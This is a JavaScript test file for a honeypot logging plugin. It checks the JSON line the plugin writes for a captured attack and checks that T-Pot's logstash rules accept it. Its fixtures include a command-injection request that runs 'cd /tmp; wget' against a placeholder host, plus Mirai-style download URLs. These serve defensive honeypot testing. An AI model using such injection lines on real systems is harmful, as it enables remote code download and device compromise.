// The line log-json writes for an attack, byte for byte, and the same line
// read with T-Pot's logstash rules (./tpot.mjs). jsonLine is the function
// the plugin runs for each report; plugin.test.mjs runs the plugin itself.
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { test } from 'node:test';
import { attackFixture } from '@honeytrap/sdk';
import { jsonLine } from '../index.mjs';
import { tpotEvent } from './tpot.mjs';

const md5 = (b) => createHash('md5').update(b).digest('hex');
const sha512 = (b) => createHash('sha512').update(b).digest('hex');
const EMPTY = {
  md5_hash: 'd41d8cd98f00b204e9800998ecf8427e',
  sha512_hash:
    'cf83e1357eefb8bdf1542850d66d8007d620e4050b5715dc83f4a921d36ce9ce47d0d13c5d85f2b0ff8318d2877eec2f63b931bd47417a81a538327af927da3e',
  length: 0,
  data_hex: '',
};
const NO_PROXY = {
  protocol: 'ip',
  remote_ip: '0.0.0.0',
  remote_port: 0,
  local_ip: '0.0.0.0',
  local_port: 0,
  payload: EMPTY,
};

const REQUEST =
  'GET /shell?cd+/tmp;wget+http://203.0.113.9/x.sh HTTP/1.1\r\nHost: 192.0.2.1\r\n\r\n';

function attack(over = {}) {
  return attackFixture({
    received: REQUEST,
    sent: 'HTTP/1.1 200 OK\r\n\r\n',
    port: 8080,
    remote: { address: '198.51.100.7', port: 40001 },
    localAddress: '192.0.2.1',
    startedAt: '2026-11-25T19:40:01.256Z',
    durationMs: 1800,
    id: '01M8A1R87GW009PF5K1YK9T9R0',
    template: '80_tcp',
    ...over,
  });
}

/** A download plugin's record, as http-download writes it (sdk/src/download.ts). */
function downloadRecord(plugin, findings) {
  return { plugin, version: '0.1.0', status: 'ok', durationMs: 12, findings, artifacts: [] };
}

function okDownload(url, bytes, extra = {}) {
  return {
    type: 'download',
    value: url,
    meta: {
      status: 'ok',
      code: 200,
      size: bytes.length,
      md5: md5(bytes),
      sha256: createHash('sha256').update(bytes).digest('hex'),
      sha512: sha512(bytes),
      fileType: 'ELF',
      ...extra,
    },
  };
}

test('an IPv4 attack without downloads: the exact line', () => {
  const line = jsonLine({ attack: attack(), records: {}, artifacts: [] });
  const data = Buffer.from(REQUEST);
  assert.equal(
    line,
    '{"is_virtual":false,"@timestamp":"2026-11-25T19:40:01Z","start_time":"2026-11-25T19:40:01Z","end_time":"2026-11-25T19:40:03Z",' +
      `"attack_connection":{"protocol":"tcp","remote_ip":"198.51.100.7","remote_port":40001,"local_ip":"192.0.2.1","local_port":8080,` +
      `"payload":{"md5_hash":"${md5(data)}","sha512_hash":"${sha512(data)}","length":${data.length},"data_hex":"${data.toString('hex')}"}},` +
      `"proxy_connection":${JSON.stringify(NO_PROXY)},"operation_mode":1,"download_count":0,"download_tries":0,"downloads":{}}\n`,
  );
});

test('an IPv6 attack: addresses in their text form, no brackets', () => {
  const a = attack({
    remote: { address: '2001:db8::7', port: 50000 },
    localAddress: '2001:db8::1',
    proto: 'udp',
    endReason: 'idle-timeout',
  });
  const rec = JSON.parse(jsonLine({ attack: a, records: {} }));
  assert.deepEqual(
    { ...rec.attack_connection, payload: undefined },
    {
      protocol: 'udp',
      remote_ip: '2001:db8::7',
      remote_port: 50000,
      local_ip: '2001:db8::1',
      local_port: 8080,
      payload: undefined,
    },
  );
});

test('an attack that sent nothing: empty payload with the hashes of no bytes', () => {
  const rec = JSON.parse(jsonLine({ attack: attack({ received: '', sent: '' }) }));
  assert.deepEqual(rec.attack_connection.payload, EMPTY);
});

test('downloads: the ones that brought a file flattened with _N suffixes, every attempt counted', () => {
  const elf = Buffer.concat([Buffer.from('\x7fELF\x01\x01\x01'), Buffer.alloc(57, 1)]);
  const script = Buffer.from('#!/bin/sh\ncd /tmp; ./x\n');
  const http = okDownload('http://203.0.113.9/bins/mirai.x86', elf, { address: '203.0.113.9' });
  const tftp = okDownload('tftp://[2001:db8::9]:6969/x.sh', script, { fileType: 'script' });
  const ftp = okDownload('ftp://bob:s%3Acret@203.0.113.10/pub/a%20b.bin', script);
  const failed = {
    type: 'download',
    value: 'http://203.0.113.9/gone',
    meta: { status: 'failed', code: 404, error: '404 Not Found', size: 9, sha256: 'ab'.repeat(32) },
  };
  const refused = { type: 'download', value: 'http://10.0.0.1/x', meta: { status: 'refused' } };
  const records = {
    'tftp-download': downloadRecord('tftp-download', [tftp]),
    'http-download': downloadRecord('http-download', [failed, http, refused]),
    'ftp-download': downloadRecord('ftp-download', [ftp]),
  };
  const art = (b) => ({
    sha256: createHash('sha256').update(b).digest('hex'),
    contentType: 'application/octet-stream',
    size: b.length,
    data: b.toString('base64'),
    producer: 'x',
  });
  // the script came twice (tftp and ftp): one artifact
  const rec = JSON.parse(
    jsonLine({ attack: attack(), records, artifacts: [art(elf), art(script)] }),
  );
  assert.equal(rec.download_tries, 5);
  assert.equal(rec.download_count, 3);
  const file = (b) => ({
    md5_hash: md5(b),
    sha512_hash: sha512(b),
    length: b.length,
    data_hex: b.toString('hex'),
  });
  // records by plugin name: ftp-download, http-download, tftp-download
  assert.deepEqual(rec.downloads, {
    protocol_0: 'tcp',
    remote_ip_0: '203.0.113.10',
    remote_port_0: 21,
    local_ip_0: '192.0.2.1',
    local_port_0: 8080,
    type_0: 'ftp',
    username_0: 'bob',
    password_0: 's:cret',
    uri_0: 'ftp://bob:s%3Acret@203.0.113.10/pub/a%20b.bin',
    filename_0: 'a b.bin',
    payload_0: file(script),
    protocol_1: 'tcp',
    remote_ip_1: '203.0.113.9',
    remote_port_1: 80,
    local_ip_1: '192.0.2.1',
    local_port_1: 8080,
    type_1: 'http',
    username_1: '',
    password_1: '',
    uri_1: 'http://203.0.113.9/bins/mirai.x86',
    filename_1: 'mirai.x86',
    payload_1: file(elf),
    protocol_2: 'udp',
    remote_ip_2: '2001:db8::9',
    remote_port_2: 6969,
    local_ip_2: '192.0.2.1',
    local_port_2: 8080,
    type_2: 'tftp',
    username_2: '',
    password_2: '',
    uri_2: 'tftp://[2001:db8::9]:6969/x.sh',
    filename_2: 'x.sh',
    payload_2: file(script),
  });
});

test('a download whose bytes the report does not carry: hashes and size from the finding, no hex', () => {
  const bytes = Buffer.from('payload');
  const f = okDownload('http://203.0.113.9/p', bytes);
  const rec = JSON.parse(jsonLine({ attack: attack(), records: { h: downloadRecord('h', [f]) } }));
  assert.deepEqual(rec.downloads.payload_0, {
    md5_hash: md5(bytes),
    sha512_hash: sha512(bytes),
    length: 7,
    data_hex: '',
  });
});

test('mirror and proxy: operation_mode 4 and 8, proxy_connection is the peer and what it answered', () => {
  const peer = { address: '198.51.100.7', port: 8080, role: 'mirror' };
  const m = JSON.parse(jsonLine({ attack: attack({ mode: 'mirror', overrides: { peer } }) }));
  assert.equal(m.operation_mode, 4);
  const sent = Buffer.from('HTTP/1.1 200 OK\r\n\r\n');
  assert.deepEqual(m.proxy_connection, {
    protocol: 'tcp',
    remote_ip: '198.51.100.7',
    remote_port: 8080,
    local_ip: '0.0.0.0',
    local_port: 0,
    payload: {
      md5_hash: md5(sent),
      sha512_hash: sha512(sent),
      length: sent.length,
      data_hex: sent.toString('hex'),
    },
  });
  const p6 = { address: '2001:db8::5', port: 80, role: 'proxy' };
  const p = JSON.parse(jsonLine({ attack: attack({ mode: 'proxy', overrides: { peer: p6 } }) }));
  assert.equal(p.operation_mode, 8);
  assert.equal(p.proxy_connection.local_ip, '::');
  // a mirror that could not be reached ran as normal: mode 1, no proxy connection
  const fallback = {
    from: 'mirror',
    reason: 'mirror connect to 198.51.100.7:8080 failed: ECONNREFUSED',
  };
  const f = JSON.parse(jsonLine({ attack: attack({ mode: 'mirror', overrides: { fallback } }) }));
  assert.equal(f.operation_mode, 1);
  assert.deepEqual(f.proxy_connection, NO_PROXY);
  assert.equal(JSON.parse(jsonLine({ attack: attack({ mode: 'ignore' }) })).operation_mode, 2);
});

test("T-Pot's logstash rules read every field, IPv4 and IPv6, with and without downloads", () => {
  const bytes = Buffer.from('\x7fELF....');
  const records = { h: downloadRecord('h', [okDownload('http://[2001:db8::9]/b', bytes)]) };
  const cases = [
    attack(),
    attack({ remote: { address: '2001:db8::7', port: 50000 }, localAddress: '2001:db8::1' }),
  ];
  for (const a of cases) {
    for (const input of [{ attack: a }, { attack: a, records }]) {
      const line = jsonLine(input);
      assert.ok(line.endsWith('\n') && !line.slice(0, -1).includes('\n'), 'one line');
      const { event, problems } = tpotEvent(line.slice(0, -1));
      assert.deepEqual(problems, []);
      const received = Buffer.from(a.received.data, 'base64');
      // T-Pot's common fields, after the renames and conversions
      assert.equal(event.src_ip, a.remote.address);
      assert.equal(event.src_port, a.remote.port);
      assert.equal(event.dest_ip, a.local.address);
      assert.equal(event.dest_port, a.local.port);
      assert.equal(
        new Date(event['@timestamp']).getTime(),
        Math.floor(Date.parse(a.startedAt) / 1000) * 1000,
      );
      // everything else as honeytrap's logJSON wrote it
      assert.deepEqual(Object.keys(event.attack_connection), ['protocol', 'payload']);
      assert.equal(event.attack_connection.protocol, 'tcp');
      assert.deepEqual(event.attack_connection.payload, {
        md5_hash: md5(received),
        sha512_hash: sha512(received),
        length: received.length,
        data_hex: received.toString('hex'),
      });
      assert.equal(event.is_virtual, false);
      assert.equal(event.start_time, event['@timestamp']);
      assert.equal(Date.parse(event.end_time), Math.floor(Date.parse(a.endedAt) / 1000) * 1000);
      assert.deepEqual(event.proxy_connection, NO_PROXY);
      assert.equal(event.operation_mode, 1);
      const n = input.records ? 1 : 0;
      assert.equal(event.download_count, n);
      assert.equal(event.download_tries, n);
      assert.equal(Object.keys(event.downloads).length, 11 * n);
      if (n) {
        assert.equal(event.downloads.remote_ip_0, '2001:db8::9');
        assert.equal(event.downloads.remote_port_0, 80);
        assert.equal(event.downloads.payload_0.length, bytes.length);
      }
      assert.deepEqual(Object.keys(event).sort(), [
        '@timestamp',
        'attack_connection',
        'dest_ip',
        'dest_port',
        'download_count',
        'download_tries',
        'downloads',
        'end_time',
        'is_virtual',
        'operation_mode',
        'proxy_connection',
        'src_ip',
        'src_port',
        'start_time',
        't-pot_hostname',
        'type',
      ]);
    }
  }
});

test('what T-Pot would drop is caught by the restated rules', () => {
  assert.match(tpotEvent('{"@timestamp": ').problems[0], /_jsonparsefailure/);
  const bad = JSON.parse(jsonLine({ attack: attack() }));
  bad.attack_connection.remote_ip = '[2001:db8::7]';
  bad['@timestamp'] = '2026-11-25 19:40:01';
  const { problems } = tpotEvent(JSON.stringify(bad));
  assert.equal(problems.length, 2);
});
